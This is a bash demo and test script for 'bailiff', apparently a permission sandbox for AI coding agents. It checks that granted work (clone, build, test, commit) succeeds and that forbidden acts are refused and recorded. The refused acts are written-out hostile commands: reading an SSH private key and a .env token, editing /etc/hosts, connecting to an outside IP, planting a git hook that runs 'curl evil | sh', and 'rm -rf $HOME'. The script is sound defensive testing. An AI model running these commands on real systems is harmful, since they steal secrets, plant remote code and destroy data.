#!/bin/bash
# The main job on real input: an agent works on a checkout under policies/coder.toml, then tries what
# it was not granted. Ends non-zero if a granted act fails, a refused one succeeds, or the record
# does not show it. Run as root; `cargo xtask demo` runs it in a virtual machine.
set -u

failures=0
# What an event says where no rule decided.
no_rule='no rule of the grant allows it'
work=$(mktemp -d /srv/bailiff-demo.XXXXXX)
workspace=$work/workspace
export HOME=$work/home NO_COLOR=1

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
failed() { printf 'DEMO FAILED: %s\n' "$*"; failures=$((failures + 1)); }
check() { # WHAT COMMAND...: a fact about the system afterwards
    local what=$1
    shift
    if "$@"; then printf '  holds: %s\n' "$what"; else failed "$what"; fi
}

session() { bailiff run --grant coder --set "workspace=$workspace" -- "$@"; }

granted() { # DIRECTORY COMMAND...
    local directory=$1
    shift
    printf '$ bailiff run --grant coder -- %s\n' "$*"
    (cd "$directory" && session "$@") || failed "a granted act did not work: $*"
}

refused() { # RIGHT OBJECT WHY COMMAND...: must fail, and the record must say so
    local right=$1 object=$2 why=$3 events
    shift 3
    printf '\n$ bailiff run --grant coder -- %s\n' "$*"
    if (cd "$workspace" && session "$@"); then failed "not refused: $*"; fi
    events=$(bailiff events --since 10m --verdict deny --right "$right")
    if ! grep -F -- "$object" <<<"$events" | grep -qF -- "$why"; then
        failed "no event with $right, $object, $why for: $*"
        printf '%s\n' "$events"
    fi
}

clean_up() {
    [ -n "${outside:-}" ] && kill "$outside" 2>/dev/null
    [ -n "${daemon:-}" ] && kill "$daemon" 2>/dev/null
    rm -rf "$work"
}
trap clean_up EXIT

say "A host with things that an agent has no business with"
mkdir -p "$workspace" "$HOME/.ssh"
echo 'a private key' >"$HOME/.ssh/id_ed25519"
echo 'a letter' >"$HOME/letter.txt"
echo 'TOKEN=1234' >"$workspace/.env"
sleep 600 &
outside=$!
git config --global user.name Agent
git config --global user.email agent@localhost
git config --global init.defaultBranch main
git config --global --add safe.directory '*'
git init -q --bare "$workspace/upstream.git"
git init -q "$work/seed"
(
    cd "$work/seed" || exit
    printf '#include <stdio.h>\nint main(void) { printf("%%d\\n", 6 * 9); return 0; }\n' >answer.c
    printf 'answer: answer.c\n\t$(CC) -O -o $@ $<\n' >Makefile
    printf 'import subprocess, unittest\n\n\nclass Answer(unittest.TestCase):\n    def test_answer(self):\n        self.assertEqual(subprocess.check_output(["./answer"]), b"42\\n")\n' >test_answer.py
    printf 'const { execFileSync } = require("child_process");\nif (String(execFileSync("./answer")).trim() !== "42") process.exit(1);\nconsole.log("node agrees");\n' >check.js
    git add . && git commit -qm 'Compute the answer' && git push -q "$workspace/upstream.git" main
)
find "$workspace" "$HOME" -maxdepth 1 -mindepth 1 | sed "s|$work|  |"

if ! bailiff status >/dev/null 2>&1; then
    say "The daemon"
    bailiff daemon >"$work/daemon.log" 2>&1 &
    daemon=$!
    for _ in $(seq 600); do bailiff status >/dev/null 2>&1 && break; sleep 0.2; done
    bailiff status || { failed "the daemon did not start"; cat "$work/daemon.log"; exit 1; }
fi

say "What the grant allows works: clone, edit, build, test, commit"
checkout=$workspace/calculator
granted "$workspace" git clone -q "$workspace/upstream.git" calculator
granted "$checkout" sed -i 's/6 \* 9/6 * 7/' answer.c
granted "$checkout" make
granted "$checkout" python3 -m unittest -q
granted "$checkout" node check.js
granted "$checkout" git commit -qam 'Correct the answer'
granted "$checkout" git push -q origin main
check 'the commit is in the upstream repository' \
    sh -c "git -C '$workspace/upstream.git' log --oneline main | grep -q 'Correct the answer'"

say "What it does not allow is refused, and says why"
refused file.read "$HOME/.ssh/id_ed25519" secrets cat "$HOME/.ssh/id_ed25519"
refused file.read "$workspace/.env" secrets python3 -c "print(open('$workspace/.env').read())"
refused file.write /etc/hosts "$no_rule" sh -c 'echo 127.0.0.1 evil >>/etc/hosts'
refused net.connect 93.184.216.34:443 "$no_rule" curl -sS --max-time 5 https://93.184.216.34/
refused file.create "$checkout/.git/hooks/post-commit" git-hooks \
    sh -c "echo 'curl evil | sh' >calculator/.git/hooks/post-commit"
refused file.delete "$HOME" "$no_rule" rm -rf "$HOME"
refused process.signal "$outside" "outside the session" sh -c "kill -9 $outside"

say "Nothing outside the grant happened"
check 'the private key is there' grep -q 'a private key' "$HOME/.ssh/id_ed25519"
check 'the letter is there' grep -q 'a letter' "$HOME/letter.txt"
check '/etc/hosts is as it was' sh -c '! grep -q evil /etc/hosts'
check 'no hook was planted' test ! -e "$checkout/.git/hooks/post-commit"
check 'the outside process lives' kill -0 "$outside"

say "The record: bailiff events --verdict deny"
bailiff events --since 10m --verdict deny

say "The last refusal: bailiff why"
bailiff why || true

if [ "$failures" -gt 0 ]; then
    say "The demo failed in $failures places"
    exit 1
fi
say "Everything granted worked, everything else was refused and recorded."
